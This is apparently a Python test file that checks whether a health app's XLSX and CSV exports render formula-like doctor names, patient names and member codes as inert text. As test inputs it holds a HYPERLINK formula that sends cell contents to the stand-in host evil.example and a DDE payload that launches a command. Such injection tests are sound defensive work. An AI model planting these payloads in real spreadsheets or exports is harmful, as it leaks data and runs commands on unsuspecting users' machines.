"""A name or code that a spreadsheet would run as a formula is exported as text."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import UTC, datetime

import pytest
import time_machine
from sqlalchemy import select
from sqlalchemy.orm import Session

from grids.models import Doctor, Membership, Patient
from tests.support import factories
from tests.support import rollup_fixture as fx
from tests.support.accounts import log_in, make_user
from tests.support.admin import county

MONDAY = datetime(2026, 11, 30, 1, 0, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def _sheet_cells(data: bytes) -> tuple[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
        strings = book.read("xl/sharedStrings.xml").decode("utf-8")
    return sheet, strings


def test_the_doctor_spreadsheet_holds_the_name_as_a_string(client, session: Session) -> None:
    fx.build(session)
    doctor = session.scalars(select(Doctor).where(Doctor.code == "RD1")).one()
    doctor.name = FORMULA
    make_user(session, "wang", "doctor", doctor_code="RD1")
    session.commit()
    with time_machine.travel(MONDAY, tick=False):
        log_in(client, "wang")
        xlsx = client.get(f"/exports/doctor/RD1.xlsx?week={fx.WEEK}")
        csv_export = client.get(f"/exports/doctor/RD1.csv?week={fx.WEEK}")
    assert xlsx.status_code == 200
    sheet, strings = _sheet_cells(xlsx.data)
    assert "<f>" not in sheet
    assert "HYPERLINK" in strings
    rows = list(csv.reader(io.StringIO(csv_export.data.decode("utf-8-sig"))))
    assert rows[1][2] == "'" + FORMULA
    assert rows[1][1] == "RD1"


def test_the_members_csv_quotes_formula_names(client, session: Session) -> None:
    built = county(session)
    make_user(session, "bureau", "admin")
    member = session.scalars(
        select(Patient)
        .join(Membership, Membership.patient_id == Patient.id)
        .where(Membership.grid_id == built.g1.grid.id)
    ).first()
    assert member is not None
    member.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    session.commit()
    log_in(client, "bureau")
    response = client.get("/admin/grids/AV1-HTN01/members.csv")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    names = [row[2] for row in rows[1:]]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in names
    assert not any(re.match(r"[=+\-@\t\r]", name) for name in names)


@pytest.mark.parametrize("output", ["csv", "json"])
def test_grids_export_quotes_formula_codes_in_csv_only(runner, session: Session, output) -> None:
    tree = factories.facility_tree(session, prefix="E")
    factories.doctor(session, tree["clinic_a"], code="DE1")
    factories.patient(session, tree["clinic_a"], volunteer=True, code="EP01")
    factories.patient(session, tree["clinic_a"], code="+1-2")
    session.commit()
    assert runner.invoke(args=["grids", "form"]).exit_code == 0
    result = runner.invoke(args=["grids", "export", "--format", output])
    assert result.exit_code == 0, result.output
    if output == "csv":
        codes = [row[5] for row in csv.reader(io.StringIO(result.stdout))][1:]
        assert "'+1-2" in codes
    else:
        codes = [item["member_code"] for item in json.loads(result.stdout)["items"]]
        assert "+1-2" in codes
